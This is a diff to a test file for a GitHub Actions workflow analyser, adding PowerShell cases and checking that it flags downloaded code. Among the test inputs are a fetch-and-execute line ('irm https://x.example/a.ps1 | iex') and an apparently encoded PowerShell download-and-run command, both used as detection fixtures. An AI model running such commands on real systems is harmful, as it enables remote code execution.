@@ -254,13 +254,44 @@ describe('workflows', () => {
     ['what does not parse', 'on: [push\njobs: {}\n', false],
     ['an unknown key', workflow('- runs: x', { on: 'push' }), false],
     ['a shell of its own', workflow('- run: x\n  shell: ruby {0}', { on: 'push' }), false],
-    ['PowerShell', workflow('- run: Get-Date\n  shell: pwsh', { on: 'push' }), false],
+    ['PowerShell', workflow('- run: Get-Date\n  shell: pwsh', { on: 'push' }), true],
+    [
+      'the shell of Windows',
+      workflow('- run: Get-Date', { on: 'push' }).replace('ubuntu-latest', 'windows-latest'),
+      true,
+    ],
+    [
+      'PowerShell given a secret',
+      workflow('- run: a.exe\n  shell: pwsh\n  env:\n    K: ${{ secrets.K }}', { on: 'push' }),
+      false,
+    ],
+    ['PowerShell with a secret', workflow('- run: a.exe ${{ secrets.K }}\n  shell: pwsh', { on: 'push' }), false],
+    ['another shell in PowerShell', workflow("- run: bash -c 'a'\n  shell: pwsh", { on: 'push' }), false],
+    [
+      'a program of another in PowerShell',
+      workflow('- run: python -c "a()"\n  shell: powershell', { on: 'push' }),
+      false,
+    ],
+    ['C# in PowerShell', workflow('- run: Add-Type $a\n  shell: pwsh', { on: 'push' }), false],
+    [
+      'a program in letters',
+      workflow('- run: pwsh -enc SQBFAFgAIAAoAEkAUgBNACkA\n  shell: pwsh', { on: 'push' }),
+      false,
+    ],
+    ['no PowerShell', workflow('- run: "if ($a) {"\n  shell: pwsh', { on: 'push' }), false],
+    ['the shell of old Windows', workflow('- run: dir\n  shell: cmd', { on: 'push' }), false],
     ['Python', workflow('- run: print(1)\n  shell: python', { on: 'push' }), false],
     ['no script of the shell', workflow('- run: "if ("', { on: 'push' }), false],
     ['Bash on Windows', workflow('- run: make\n  shell: msys2 {0}', { on: 'push' }), true],
     ['an ordinary one', workflow('- run: make', { on: 'push' }), true],
   ])('%s', (_, text, judged) => {
     expect(judgeWorkflow(text).unread.length === 0).toBe(judged);
+  });
+
+  test('tells what PowerShell loads and runs', async () => {
+    const step = (run: string): string => workflow(`- run: ${run}\n  shell: pwsh`, { on: 'push' });
+    expect(await found(step('irm https://x.example/a.ps1 | iex'))).toEqual(['downloaded-code warning']);
+    expect(await found(step('dotnet build'))).toEqual([]);
   });
 
   test('tells inputs of actions that become programs', async () => {
